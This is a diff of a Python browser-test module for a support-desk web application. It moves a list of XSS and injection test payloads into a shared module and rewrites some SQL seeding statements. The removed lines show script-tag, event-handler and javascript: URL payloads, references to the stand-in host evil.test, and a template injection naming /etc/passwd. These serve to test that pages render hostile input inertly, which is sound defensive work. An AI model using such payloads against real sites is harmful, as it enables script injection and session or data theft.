@@ -15,41 +15,7 @@ from events.runtime.migrate import upgrade
 from support.desk_browser import live, window
 from support.desk_cases import a_case, an_incident
 from support.desk_server import DeskServer, desk_server, people
-
-ATTACKS = (
-    "<script>window.hit=1</script>",
-    "</script><script>window.hit=1</script>",
-    "<img src=x onerror=window.hit=1>",
-    "<svg onload=window.hit=1>",
-    "<svg><script>window.hit=1</script></svg>",
-    "<body onload=window.hit=1>",
-    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
-    "<iframe src=javascript:window.hit=1>",
-    "<a href=javascript:window.hit=1>x</a>",
-    "javascript:window.hit=1",
-    "data:text/html,<script>window.hit=1</script>",
-    '"><script>window.hit=1</script>',
-    "'><script>window.hit=1</script>",
-    '" onmouseover="window.hit=1',
-    "' onfocus='window.hit=1' autofocus='",
-    '"autofocus onfocus=window.hit=1 x="',
-    "</textarea><script>window.hit=1</script>",
-    "</title><script>window.hit=1</script>",
-    "</option></select><script>window.hit=1</script>",
-    "<details open ontoggle=window.hit=1>",
-    "<style>@import 'http://evil.test/x.css';</style>",
-    "<link rel=stylesheet href=http://evil.test/x.css>",
-    "<meta http-equiv=refresh content=0;url=http://evil.test>",
-    "<base href=http://evil.test/>",
-    "<form action=http://evil.test><input name=csrf></form>",
-    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>",
-    "{{ 7 * 191 }}{% include '/etc/passwd' %}${7*191}",
-    "<!--<img src=--><img src=x onerror=window.hit=1>//-->",
-    "&lt;script&gt;window.hit=1&lt;/script&gt;",
-    "<x style=animation-name:x onanimationstart=window.hit=1>\u202e<b>",
-)
-"""What customers, and whoever sends their words, may write into any field."""
-
+from support.hostile_words import ATTACKS, ELEMENTS, FOREIGN
 
 EVERYWHERE = (
     "UPDATE assessment SET author = :said, network = :said, language = :said, interaction_id = :key,"
@@ -57,8 +23,10 @@ EVERYWHERE = (
     "UPDATE contact SET agent = :said, channel = :said, interaction_id = :key, customer_id = :key"
     " WHERE interaction_id = :old",
     "UPDATE recovery_case SET interaction_id = :key, customer_id = :key, customer_tier = :said WHERE id = :case",
-    "INSERT INTO preference_statement (tenant, response_id, version, said_at, customer_id, said) VALUES ('default',"
-    " :key, 1, now(), :key, jsonb_build_array(jsonb_build_object('kind', 'note', 'value', CAST(:said AS text))))",
+    "INSERT INTO noted_preference (tenant, note_id, revision, customer_id, preference, stated_at, source, response_id,"
+    " extractor) SELECT 'default', kind || :key, 1, :key, jsonb_build_object('kind', kind, 'value',"
+    " left(CAST(:said AS text), 80)), now(), '/survey', :key, 'stated/1'"
+    " FROM unnest(ARRAY['note', 'interest', 'dislike']) AS kind",
 )
 """Into what events could not bring: the patterns of ids keep most of it out, and the pages must not rely on that."""
 LISTS = (
@@ -71,11 +39,6 @@ LISTS = (
     "/desk/lost",
     "/desk/lost?show=all",
 )
-ELEMENTS = "main :is(script, style, link, meta, base, iframe, img, math, x, body, [onload], [onerror], [onfocus])"
-FOREIGN = """[...document.querySelectorAll("main [href], main [action]")]
-  .map((each) => each.getAttribute("href") ?? each.getAttribute("action"))
-  .filter((address) => !/^(\\/desk\\/|#|\\?)/.test(address) && address !== "/desk")"""
-
 pytestmark = pytest.mark.timeout(420)
 
 
